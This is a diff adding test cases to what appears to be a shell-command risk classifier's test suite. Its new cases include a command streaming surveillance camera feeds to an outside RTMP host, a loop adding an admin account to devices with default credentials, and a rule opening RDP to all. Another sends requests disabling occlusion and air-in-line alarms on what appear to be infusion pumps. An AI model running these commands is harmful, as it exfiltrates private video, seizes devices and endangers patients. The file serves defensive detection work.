@@ -7986,6 +7986,37 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             'sudo systemctl daemon-reexec && sudo netplan generate',
             M,
         ),
+        # Round 69 (holdout448-451): camera relays, device admins, exposed ports, own dumps shredded
+        (
+            'jq -r \'.cameras[] | "\\(.name) \\(.rtsp)"\' /etc/vms/cameras.json | while read -r name url; do\n'
+            '  ffmpeg -i "$url" -c copy -f flv "rtmp://203.0.113.90/live/${name}" &\n'
+            'done',
+            H,
+        ),
+        (
+            'for ip in $(seq -f "10.20.1.%g" 10 60); do curl -s --digest -u admin:admin "http://$ip/cgi-bin/u'
+            'serManager.cgi?action=addUser&user.Name=m&user.Group=admin"; done',
+            H,
+        ),
+        (
+            'sudo iptables -I INPUT 1 -p tcp --dport 3389 -j ACCEPT',
+            H,
+        ),
+        (
+            'sudo iptables -A INPUT -p tcp -s 10.0.0.0/8 --dport 5432 -j ACCEPT',
+            M,
+        ),
+        (
+            'while read -r ip; do curl -sk -X PUT "https://$ip/cgi-bin/config" --data \'occlusion_alarm=0&air_'
+            "in_line_alarm=0'; done < pumps.txt",
+            H,
+        ),
+        (
+            'f=/backups/reporting_$(date +%F).dump\n'
+            'pg_dump -Fc -d reporting -f "$f"\n'
+            'gpg --batch --encrypt -r b@example.com -o "$f.gpg" "$f" && shred -u "$f"',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
